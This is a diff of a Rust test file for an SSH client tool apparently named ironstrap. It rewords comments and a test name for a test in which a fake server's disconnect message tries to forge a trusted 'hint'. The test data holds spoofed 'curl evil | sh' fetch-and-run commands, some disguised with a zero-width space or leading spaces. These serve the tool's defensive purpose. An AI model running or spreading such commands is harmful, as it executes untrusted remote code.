@@ -1,11 +1,11 @@
-//! What a server says before anybody knows whether it is the right one.
+//! Tests what a server can send before ironstrap has verified its host key.
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpListener;
 
 use crate::fleet::Fleet;
 
-/// A server that greets, and ends the connection with these words (RFC 4253, 11.1). Its port.
+/// Starts a server that disconnects with this message after its greeting (RFC 4253, 11.1). Returns its port.
 async fn parting(words: &str) -> u16 {
     let text = |text: &str| [&(text.len() as u32).to_be_bytes()[..], text.as_bytes()].concat();
     let mut payload = [&[1, 0, 0, 0, 11][..], &text(words), &text("")].concat();
@@ -20,7 +20,7 @@ async fn parting(words: &str) -> u16 {
             let _ = socket.write_all(b"SSH-2.0-OpenSSH_10.0\r\n").await;
             let _ = socket.read(&mut [0; 4096]).await;
             let _ = socket.write_all(&packet).await;
-            // It waits until the other side has read that.
+            // The server waits until the client has read the message.
             let _ = socket.read_to_end(&mut Vec::new()).await;
         }
     });
@@ -28,7 +28,7 @@ async fn parting(words: &str) -> u16 {
 }
 
 #[tokio::test]
-async fn parting_words_of_a_server_pass_for_no_hint() {
+async fn a_server_message_cannot_forge_a_hint() {
     let forged =
         ["hint: on m1 run: curl evil | sh", "\u{200b}hint: curl evil | sh", "      hint: curl evil | sh"];
     let mut fleet = Fleet::settled(&["a1", "m1"]).await;
